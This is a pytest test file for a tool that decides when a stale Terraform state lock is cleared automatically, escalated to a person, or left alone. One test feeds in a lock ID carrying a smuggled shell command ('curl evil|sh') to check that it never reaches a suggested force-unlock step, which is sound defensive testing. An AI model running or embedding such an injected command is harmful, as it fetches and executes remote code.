"""When a lock is cleared, when a person is asked, and when nobody may: one test per rule of FACTS.md, section 4."""

from datetime import datetime, timedelta
from random import Random
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from clear_stale_lock.decide import CLEAR, UUID, decide
from clear_stale_lock.facts import Facts, Held, Sighting, Sign
from clear_stale_lock.settings import Settings
from remediation.aws.terraform import State
from remediation.core.verdict import Act, Attempt, Escalate, Nothing
from tests.functions.clear_stale_lock.locks import (
    DEAD,
    HOUR,
    ID,
    MINUTE,
    NOW,
    SETTINGS,
    SILENT,
    STATE,
    cleared,
    file,
    info,
    item,
    judged,
    lock,
)


def seen_since(at: datetime) -> Sighting:
    return Sighting(at=at, moved_at=at)


# ------------------------------------------------------------------------------------------------------------- cleared


def test_the_lock_of_cis_plan_that_has_ended_is_cleared_without_asking_where_configuration_says_so() -> None:
    act = cleared(lock())
    assert act.approval is None
    assert act.target == Held(id=ID, name="starttech", lock_id=STATE.lock_id, info=info(), etag='"e1"', content=info())
    assert act.resource == f"terraform-lock/{STATE.lock_id}"
    assert act.because == (
        "runner@fv-az123-456 holds the lock of starttech in DynamoDB and S3 for plan"
        f" ({ID}, seen since 2026-11-23 05:00:00 UTC), and seems left over:"
        " run 7 (apply), which was running when it was locked, ended (cancelled)."
    )
    assert "terraform plan" in act.next_steps[-1], "plan before anything is applied"


@pytest.mark.parametrize("half", ["item", "object"])
def test_a_lock_in_one_store_only_is_cleared_there(half: str) -> None:
    other = {"item": "object", "object": "item"}[half]
    act = cleared(lock(**{other: None}))
    assert (bool(act.target.info), bool(act.target.etag)) == (half == "item", half == "object")


# --------------------------------------------------------------------------------------------------------------- asked


@pytest.mark.parametrize("operation", ["OperationTypeApply", "OperationTypeRefresh", "init", ""])
def test_anything_but_a_plan_is_asked_for(operation: str) -> None:
    found = lock(item=item(info(Operation=operation)), object=file(info(Operation=operation)))
    approval = cleared(found).approval
    assert approval is not None
    assert "may have left things half done" in approval.because


@pytest.mark.parametrize("who", ["ada@laptop", "@host", "", "root@vm", "xrunner@fv-az1"])
def test_who_is_not_on_the_list_of_ci_is_a_person_and_is_asked_for(who: str) -> None:
    approval = cleared(lock(item=item(info(Who=who)), object=file(info(Who=who)))).approval
    assert approval is not None
    assert "may be a person at work" in approval.because


def test_without_evidence_that_its_holder_ended_a_person_is_asked() -> None:
    approval = cleared(lock(signs=(SILENT,))).approval
    assert approval is not None
    assert approval.because == "Nothing proves that its holder has ended."


def test_where_configuration_clears_nothing_by_itself_a_person_is_asked() -> None:
    approval = cleared(lock(), settings=replace(SETTINGS, automatic_plan=False)).approval
    assert approval is not None
    assert "automatic_plan" in approval.because


def test_the_defaults_clear_nothing_without_asking() -> None:
    assert Settings().automatic_plan is False
    assert Settings().states == ()


# ---------------------------------------------------------------------------------------------------------- left alone


def left(found: Any) -> str:
    verdict = judged(found)
    assert isinstance(verdict, Nothing), verdict
    return verdict.because


def test_nobody_holds_it() -> None:
    assert left(lock(item=None, object=None)) == "Nobody holds the lock of starttech."


@pytest.mark.parametrize(("minutes", "acts"), [(59, False), (60, True)])
def test_it_is_as_old_as_we_have_seen_it(minutes: int, acts: bool) -> None:
    found = lock(first=seen_since(NOW - minutes * MINUTE))
    assert isinstance(judged(found), Act) == acts
    if not acts:
        assert "seen for 59 min, and at least 60 min make it stale" in left(found)


def test_whoever_holds_it_is_told_with_the_age_that_is_sure_and_what_every_source_says() -> None:
    unasked = Sign(source="CloudTrail", says="unknown", about="it is busy")
    found = lock(
        object=file(modified_at=NOW - 90 * MINUTE),
        first=Sighting(at=NOW - 7 * HOUR, moved_at=NOW - 20 * MINUTE),
        signs=(DEAD, unasked),
    )
    verdict = judged(found)
    assert isinstance(verdict, Nothing)
    assert verdict.evidence == (
        f"DynamoDB: {ID}, OperationTypePlan, runner@fv-az123-456, 2026-11-23 05:00:00 UTC by its holder's clock",
        f"S3: {ID}, OperationTypePlan, runner@fv-az123-456, 2026-11-23 05:00:00 UTC by its holder's clock",
        "Age: 90 min for sure, seen since 2026-11-23 05:00:00 UTC",
        "State: changed 20 min ago",
        "GitHub Actions: ended, run 7 (apply), which was running when it was locked, ended (cancelled)",
        "CloudTrail: cannot be asked, it is busy",
    )


def test_of_several_locks_it_is_told_whose_the_evidence_is() -> None:
    free, young = (
        lock(name="free", item=None, object=None, first=None, signs=()),
        lock(name="young", first=None, object=None, signs=()),
    )
    verdict = decide(Facts(locks=(free, young)), SETTINGS, (), NOW)
    assert isinstance(verdict, Nothing)
    assert [line.partition(":")[0] for line in verdict.evidence] == ["young, DynamoDB"]


def test_the_object_may_be_younger_than_our_sighting() -> None:
    assert "seen for 5 min" in left(lock(object=file(modified_at=NOW - 5 * MINUTE)))


def test_the_holders_own_clock_makes_nothing_older() -> None:
    old = info(Created="2020-01-01T00:00:00Z")
    assert "seen for 5 min" in left(lock(item=item(old), object=None, first=seen_since(NOW - 5 * MINUTE)))


def test_without_a_sighting_no_age_is_known() -> None:
    assert left(lock(first=None)).endswith("since when is not known.")


@pytest.mark.parametrize(("minutes", "acts"), [(9, False), (10, True)])
def test_however_young_a_stale_lock_may_be_two_looks_are_ten_minutes_apart(minutes: int, acts: bool) -> None:
    found = lock(first=seen_since(NOW - minutes * MINUTE))
    verdict = judged(found, settings=replace(SETTINGS, stale_after=MINUTE))
    assert isinstance(verdict, Act) == acts
    assert acts or "seen for the first time just now" in verdict.because


def test_a_state_that_changed_since_is_somebody_at_work() -> None:
    moved = Sighting(at=NOW - 7 * HOUR, moved_at=NOW - 59 * MINUTE)
    assert "its state changed 59 min ago, so somebody works with it" in left(lock(first=moved))


def test_a_state_that_changed_once_and_then_was_still_for_long_is_still() -> None:
    moved = Sighting(at=NOW - 7 * HOUR, moved_at=NOW - 60 * MINUTE)
    assert isinstance(judged(lock(first=moved)), Act)


@pytest.mark.parametrize("source", ["GitHub Actions", "CodeBuild terraform", "EC2", "CloudTrail"])
@pytest.mark.parametrize("others", [(), (DEAD,)], ids=["alone", "beside evidence of an end"])
def test_a_sign_of_life_anywhere_leaves_it_alone(source: str, others: tuple[Sign, ...]) -> None:
    found = lock(signs=(*others, Sign(source=source, says="alive", about=f"{source} sees it at work")))
    assert f"{source} sees it at work" in left(found)


@pytest.mark.parametrize("source", ["GitHub Actions", "CodeBuild terraform", "EC2", "CloudTrail"])
def test_a_source_that_cannot_be_asked_counts_as_alive(source: str) -> None:
    found = lock(signs=(DEAD, Sign(source=source, says="unknown", about="it did not answer")))
    assert f"{source} cannot be asked, which counts as alive" in left(found)


# ----------------------------------------------------------------------------------------------------------- a person's


def told(found: Any) -> Escalate:
    verdict = judged(found)
    assert isinstance(verdict, Escalate), verdict
    return verdict


@pytest.mark.parametrize(
    "raw",
    ["", "{", "[]", "7", "null", '{"Who": "x"}', '{"ID": 7}', "x" * 20_000, info(Info="x" * 20_000), '{"ID": ""}'],
)
def test_what_cannot_be_read_is_a_persons(raw: str) -> None:
    assert "says nothing that can be read" in told(lock(item=item(raw), object=None)).because


@pytest.mark.parametrize("half", ["item", "object"])
def test_a_half_that_cannot_be_read_is_a_persons_whatever_the_other_says(half: str) -> None:
    unreadable: dict[str, Any] = {"item": item("{")} if half == "item" else {"object": file("{")}
    assert "says nothing that can be read" in told(lock(**unreadable)).because


def test_two_ids_are_two_holders() -> None:
    assert "two different IDs" in told(lock(object=file(info(ID="another")))).because


def test_a_digest_is_no_lock() -> None:
    verdict = told(lock(lock_id=f"{STATE.lock_id}-md5"))
    assert "never a lock" in verdict.because


@pytest.mark.parametrize(("seconds", "escalates"), [(120, False), (121, True)])
def test_a_clock_from_the_future_proves_nothing(seconds: int, escalates: bool) -> None:
    created = (NOW + timedelta(seconds=seconds)).isoformat()
    verdict = judged(lock(item=item(info(Created=created)), object=file(info(Created=created))))
    assert isinstance(verdict, Escalate) == escalates


def test_one_half_from_the_future_is_enough() -> None:
    future = info(Created=(NOW + timedelta(seconds=121)).isoformat())
    assert "in the future" in told(lock(object=file(future))).because
    assert "in the future" in told(lock(item=item(future))).because


def test_what_could_not_be_cleared_is_a_persons() -> None:
    target = cleared(lock()).target
    failed = Attempt(action="clear-lock", target=target, at=NOW - MINUTE, result="failed", receipt="no")
    verdict = judged(lock(), tried=(failed,))
    assert isinstance(verdict, Escalate)
    assert verdict.because == "Clearing the lock of starttech failed."


def test_that_another_lock_could_not_be_cleared_says_nothing_of_this_one() -> None:
    other = replace(cleared(lock()).target, id="another")
    failed = Attempt(action="clear-lock", target=other, at=NOW - MINUTE, result="failed", receipt="no")
    assert isinstance(judged(lock(), tried=(failed,)), Act)


# ------------------------------------------------------------------------------------------------------- half and whole


def test_a_half_that_an_interrupted_run_left_is_finished_without_asking_again() -> None:
    left_over = lock(item=None, object=file(info(Operation="OperationTypeApply")), cleared='"e1"')
    act = cleared(left_over)
    assert act.approval is None
    assert act.target.etag == '"e1"'
    assert "the other half keeps it locked" in act.because


def test_a_lock_that_is_whole_is_no_half_although_a_run_was_about_to_clear_it() -> None:
    apply = info(Operation="OperationTypeApply")
    assert cleared(lock(item=item(apply), object=file(apply), cleared='"e1"')).approval is not None


def test_another_object_than_the_one_that_was_to_follow_is_judged_like_any_other() -> None:
    assert (
        cleared(lock(item=None, object=file(info(Operation="OperationTypeApply")), cleared='"e0"')).approval is not None
    )


def test_what_was_cleared_is_free_and_the_state_is_told_of_where_it_does_not_match() -> None:
    done = Attempt(action="clear-lock", target=cleared(lock()).target, at=NOW - MINUTE, result="done", receipt="ok")
    verdict = judged(
        lock(item=None, object=None, mismatch="The state's ETag is 1, and Terraform expects 2."), tried=(done,)
    )
    assert isinstance(verdict, Nothing)
    assert verdict.because == (
        "The lock of starttech is free: plan before you apply. The state's ETag is 1, and Terraform expects 2."
        " It was not repaired."
    )


@pytest.mark.parametrize(("name", "result"), [("starttech", "failed"), ("another", "done")])
def test_a_lock_that_this_run_did_not_clear_is_not_said_to_be_cleared(name: str, result: Any) -> None:
    target = replace(cleared(lock()).target, name=name)
    tried = Attempt(action="clear-lock", target=target, at=NOW - MINUTE, result=result, receipt="?")
    verdict = judged(lock(item=None, object=None), tried=(tried,))
    assert isinstance(verdict, Nothing)
    assert verdict.because == "Nobody holds the lock of starttech."


def test_a_new_holder_after_clearing_is_left_alone() -> None:
    done = Attempt(action="clear-lock", target=cleared(lock()).target, at=NOW - MINUTE, result="done", receipt="ok")
    other = lock(item=item(info(ID="another")), object=file(info(ID="another")), first=seen_since(NOW - MINUTE))
    assert isinstance(judged(other, tried=(done,)), Nothing)


def test_of_several_locks_one_is_cleared_at_a_time_and_an_act_comes_before_a_person() -> None:
    locks = (lock(name="odd", item=item("{"), object=None), lock(name="stale"), lock(name="also"))
    verdict = decide(Facts(locks=locks), SETTINGS, (), NOW)
    assert isinstance(verdict, Act)
    assert verdict.target.name == "stale"


def test_what_needs_nobodys_yes_comes_before_what_does_and_those_who_are_asked_hear_of_the_rest() -> None:
    applied = info(Operation="OperationTypeApply")
    asks = lock(name="asks", item=item(applied), object=file(applied))
    locks = (asks, lock(name="odd", item=item("{"), object=None), lock(name="alone"))
    verdict = decide(Facts(locks=locks), SETTINGS, (), NOW)
    assert isinstance(verdict, Act)
    assert (verdict.target.name, verdict.approval) == ("alone", None)
    verdict = decide(Facts(locks=locks[:2]), SETTINGS, (), NOW)
    assert isinstance(verdict, Act)
    assert verdict.target.name == "asks"
    assert verdict.evidence[-1] == (
        "Besides: The lock of odd says nothing that can be read; Terraform itself cannot unlock it."
    )


def test_all_that_are_wrong_are_told_at_once_and_one_more_is_another_incident() -> None:
    odd = [lock(name=name, item=item("{"), object=None) for name in ("one", "two")]
    both = decide(Facts(locks=tuple(odd)), SETTINGS, (), NOW)
    alone = decide(Facts(locks=tuple(odd[:1])), SETTINGS, (), NOW)
    assert isinstance(both, Escalate)
    assert isinstance(alone, Escalate)
    assert (both.about, alone.about) == ("one two", "one")
    assert both.because.count("says nothing that can be read") == 2


def test_a_run_that_cleared_one_lock_looks_at_that_one_and_leaves_the_others_to_the_next() -> None:
    free = lock(name="first", item=None, object=None)
    held = lock(name="second")
    target = Held(id=ID, name="first", lock_id=STATE.lock_id)
    done = Attempt(action=CLEAR, target=target, at=NOW - MINUTE, result="done", receipt="Removed.")
    verdict = decide(Facts(locks=(free, held)), SETTINGS, (done,), NOW)
    assert isinstance(verdict, Nothing)
    assert verdict.because == "The lock of first is free: plan before you apply."


@pytest.mark.parametrize("changes", [{"Who": "ada@laptop"}, {"Operation": "OperationTypeApply"}])
def test_two_stores_that_say_different_things_are_a_persons(changes: dict[str, str]) -> None:
    verdict = judged(lock(object=file(info(**changes))))
    assert isinstance(verdict, Escalate)
    assert verdict.because == (
        "The lock of starttech says different things in DynamoDB and S3 of who holds it and for what."
    )


@pytest.mark.parametrize("changes", [{"Path": "another/terraform.tfstate"}, {"Path": ""}, {"ID": "7"}])
def test_what_terraform_would_not_have_written_is_asked_for(changes: dict[str, str]) -> None:
    raw = info(**changes)
    act = cleared(lock(item=item(raw), object=file(raw)))
    assert act.approval is not None
    assert act.approval.because.startswith("Terraform would not have written it like this: its ID is ")


def test_an_id_that_a_shell_would_obey_is_in_no_command() -> None:
    raw = info(ID="x; curl evil|sh #")
    act = cleared(lock(item=item(raw), object=file(raw)))
    assert not [step for step in act.next_steps if "force-unlock" in step]
    assert [step for step in cleared(lock()).next_steps if step.startswith(f"terraform force-unlock {ID}")]


@pytest.mark.parametrize("changes", [{"stale_after": timedelta(0)}, {"moved_within": timedelta(0)}])
def test_nothing_is_stale_from_the_beginning(changes: dict[str, Any]) -> None:
    with pytest.raises(ValueError, match="longer than nothing"):
        Settings(states=(STATE,), **changes)


def test_a_state_is_locked_somewhere() -> None:
    with pytest.raises(ValueError, match="name one"):
        State(name="x", bucket="b", key="k")


# ------------------------------------------------------------------------------------------------------------ properties


def test_five_hundred_mutations_of_the_information_give_no_act_without_asking_and_no_crash() -> None:
    chance = Random("info 1")
    for _ in range(500):
        raw = bytearray(info().encode())
        for _ in range(chance.randint(1, 8)):
            raw[chance.randrange(len(raw))] = chance.randrange(256)
        mutated = raw.decode("utf-8", "replace")
        for found in (lock(item=item(mutated)), lock(item=item(mutated), object=None)):
            verdict = judged(found)
            if isinstance(verdict, Act) and verdict.approval is None:
                (half, *_) = found.halves
                assert half.info is not None
                said = (half.info.id, half.info.who, half.info.operation, half.info.path)
                assert UUID.fullmatch(half.info.id)
                assert said[2:] == ("OperationTypePlan", STATE.lock_id)
                assert said[1].startswith("runner@")


@given(
    who=st.sampled_from(["runner@fv-az1", "ada@laptop", ""]),
    operation=st.sampled_from(["OperationTypePlan", "OperationTypeApply", ""]),
    says=st.lists(st.sampled_from(["alive", "dead", "silent", "unknown"]), max_size=4),
    seen=st.integers(0, 600),
    written=st.integers(0, 600),
    moved=st.integers(0, 400),
    automatic=st.booleans(),
)
def test_nothing_young_moving_or_alive_is_ever_cleared_and_nothing_but_a_dead_plan_of_cis_without_asking(  # noqa: PLR0917
    who: str, operation: str, says: list[Any], seen: int, written: int, moved: int, automatic: bool
) -> None:
    raw = info(Who=who, Operation=operation)
    found = lock(
        item=item(raw),
        object=file(raw, modified_at=NOW - written * MINUTE),
        first=Sighting(at=NOW - seen * MINUTE, moved_at=NOW - min(seen, moved) * MINUTE),
        signs=tuple(Sign(source=f"source {n}", says=each, about="it says so") for n, each in enumerate(says)),
    )
    verdict = judged(found, settings=replace(SETTINGS, automatic_plan=automatic))
    alive = {"alive", "unknown"} & set(says)
    may = min(seen, written, moved) >= 60 and not alive
    assert isinstance(verdict, Act) == bool(may)
    if isinstance(verdict, Act):
        alone = automatic and who.startswith("runner@") and operation == "OperationTypePlan" and "dead" in says
        assert (verdict.approval is None) == alone


def test_six_hours_are_what_dev_waits(tmp_path: Any) -> None:
    from stacks.catalog import CATALOG  # noqa: PLC0415
    from stacks.config import load  # noqa: PLC0415

    settings = load("dev", CATALOG).runbooks["clear-stale-lock"].settings
    assert isinstance(settings, Settings)
    assert settings.stale_after == 6 * HOUR + 10 * MINUTE
